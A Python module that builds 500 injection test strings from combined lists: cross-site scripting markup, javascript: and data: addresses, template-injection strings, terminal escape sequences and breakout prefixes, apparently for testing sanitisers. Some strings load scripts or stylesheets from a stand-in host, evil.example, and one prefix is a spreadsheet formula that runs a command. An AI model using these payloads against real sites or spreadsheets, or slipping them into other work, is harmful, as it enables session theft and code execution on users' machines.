"""Five hundred texts that want to be a program: markup, addresses, templates, control signs, and what hides them."""

from __future__ import annotations

import itertools

CALL = "window.__stolen=1"
MARKUP = (
    "<script>{c}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}//",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>",
    "<a href='javascript:{c}'>here</a>",
    "<form action='javascript:{c}'><button>go</button></form>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<object data='data:text/html,<script>parent.{c}</script>'></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>",
    "<xss style=animation-name:x onanimationstart={c}>",
    "<button popovertarget=x>a</button><xss popover id=x onbeforetoggle={c}>",
)
ADDRESSES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "data:text/html,<script>{c}</script>",
    "vbscript:{c}",
    "//evil.example",
    "\\\\evil.example",
)
TEMPLATES = (
    "{{{{{c}}}}}",
    "${{{c}}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "<%= {c} %>",
    "{{% {c} %}}",
    "#{{{c}}}",
    "[[{c}]]",
)
TERMINAL = (
    "\x1b]8;;javascript:{c}\x07click\x1b]8;;\x07",
    "\x1b]0;{c}\x07",
    "\x1b[31m<img src=x onerror={c}>\x1b[0m",
    "\x1b[2J\x1b[H<script>{c}</script>",
    "\x1b]52;c;ZWNobyBldmls\x07",
    "\x9b31m<b>{c}",
)
BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    "\u202e",
    "\u0000".replace("\0", "\ufeff"),
    "=cmd|' /C calc'!A0",
)
WANTED = 500


def texts() -> list[str]:
    """All of them, each once, in the same order every time."""
    plain = [form.format(c=CALL) for form in (*MARKUP, *ADDRESSES, *TEMPLATES, *TERMINAL)]
    made = dict.fromkeys(before + text for before, text in itertools.product(BEFORE, plain))
    assert len(made) >= WANTED
    return list(made)[:WANTED]
